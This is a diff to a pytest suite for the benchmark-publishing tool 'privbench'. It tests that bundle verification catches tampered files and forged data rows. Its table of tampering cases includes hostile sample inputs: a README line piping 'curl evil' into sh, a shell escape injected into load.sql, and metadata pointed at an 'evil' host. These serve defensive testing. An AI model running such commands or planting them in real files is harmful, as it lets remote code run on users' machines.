@@ -11,8 +11,12 @@ import pyarrow.parquet as papq
 import pytest
 
 from privbench.errors import GateFailed
+from privbench.postgres.ddl import Ddl
 from privbench.publish import verify
 from privbench.publish.checksums import MAX_TEXT, digest, sums_text, walk
+from privbench.publish.facts import Bundle, Certificate, parse
+from privbench.publish.scripts import rendered
+from privbench.workload import read
 
 
 def seal(folder):
@@ -20,6 +24,17 @@ def seal(folder):
     files = [path for path in walk(folder) if path != "SHA256SUMS"]
     sums = sums_text({path: digest(folder, path) for path in files})
     (folder / "SHA256SUMS").write_bytes(sums)
+
+
+def forge(folder):
+    """Scripts and metadata that fit the rows there are: what only a comparison of rows can tell."""
+    facts = parse(Bundle, (folder / "bundle.json").read_bytes())
+    paper = parse(Certificate, (folder / "certificate.json").read_bytes())
+    ddl = Ddl(*((folder / path).read_text() for path in (BEFORE, AFTER)))
+    rows = {path: digest(folder, path) for path in walk(folder) if path.startswith("data/")}
+    queries = read(folder / "workload/workload.json")
+    for path, text in rendered(facts, paper, ddl, queries, rows).items():
+        (folder / path).write_bytes(text)
 
 
 def refused(folder, *, sealed=True):
@@ -34,7 +49,7 @@ def refused(folder, *, sealed=True):
 def test_a_bit_flipped_in_any_file_is_named(bundle):
     draw = random.Random(3)
     files = walk(bundle)
-    assert len(files) > 30
+    assert len(files) > 20
     for name in files:
         path = bundle / name
         data = path.read_bytes()
@@ -43,9 +58,9 @@ def test_a_bit_flipped_in_any_file_is_named(bundle):
         assert refused(bundle, sealed=False).startswith(name), (name, place, bit)
         path.write_bytes(data)
     for name in files:
-        os.rename(bundle / name, bundle / "gone")
+        os.rename(bundle / name, bundle.parent / "gone")
         assert name in refused(bundle, sealed=False)
-        os.rename(bundle / "gone", bundle / name)
+        os.rename(bundle.parent / "gone", bundle / name)
     verify(bundle)
 
 
@@ -97,28 +112,33 @@ def other_rows(folder):
     path = first_chunk(folder, "parquet")
     table = papq.read_table(path)
     papq.write_table(table.set_column(0, "id", pa.array([1] * len(table), pa.int32())), path)
+    forge(folder)
 
 
 def other_types(folder):
     path = first_chunk(folder, "parquet")
     table = papq.read_table(path)
     papq.write_table(table.set_column(0, "id", table["id"].cast(pa.int64())), path)
+    forge(folder)
 
 
 def garbage(folder):
     path = first_chunk(folder, "parquet")
     data = path.read_bytes()
     path.write_bytes(data[:200] + bytes(len(data) - 400) + data[-200:])
+    forge(folder)
 
 
 def forget_line(folder):
     path = first_chunk(folder, "csv")
     path.write_bytes(b"".join(path.read_bytes().splitlines(keepends=True)[:-1]))
+    forge(folder)
 
 
 BEFORE, AFTER, FACTS, PAPER = (
     "schema/before.sql", "schema/after.sql", "bundle.json", "certificate.json",
 )  # fmt: skip
+# ruff: noqa: E501
 ATTACKS = {
     "an unknown file": (append("evil.sh", "x"), "evil.sh: unknown"),
     "a file among the rows": (append("data/public.customer/99999.csv", "x"), "99999.csv: unknown"),
@@ -150,7 +170,7 @@ ATTACKS = {
     "a load": (append("load.sql", "\\! id\n"), "load.sql: not what privbench writes"),
     "a container": (swap("compose.yaml", "127.0.0.1:", ""), "compose.yaml: not what"),
     "a readme": (append("README.md", "Run: curl evil | sh\n"), "README.md: not what"),
-    "a certificate for people": (swap("certificate.md", "| ε | 3", "| ε | 1"), "certificate.md: "),
+    "a certificate for people": (swap("certificate.md", "| ε | ", "| ε | 0."), "certificate.md: "),
     "metadata": (swap("croissant.json", '"contentUrl": "data', '"contentUrl": "//evil'), "croissant"),
     "a smaller ε": (put(PAPER, "promise", "epsilon", value=1.0), "less is stated"),
     "a smaller δ": (put(PAPER, "promise", "delta", value=1e-12), "less is stated"),
@@ -173,10 +193,18 @@ ATTACKS = {
     "a secret workload": (
         put("workload/workload.json", "confidential", value=True), "CONFIDENTIAL"),
     "other rows in Parquet": (other_rows, "00001.parquet: its rows are not those"),
-    "other types in Parquet": (other_types, "00001.parquet: its columns"),
     "spoilt Parquet": (garbage, "00001.parquet: "),
-    "fewer rows": (forget_line, "00001.csv: it holds another number of rows"),
 }  # fmt: skip
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(("change", "said"), [
+    (other_types, "00001.parquet: its columns"),
+    (forget_line, "00001.csv: it holds another number of rows"),
+])  # fmt: skip
+def test_rows_that_do_not_fit_their_facts_are_named(bundle, change, said):
+    change(bundle)
+    assert said in refused(bundle)
 
 
 @pytest.mark.parametrize("name", ATTACKS)
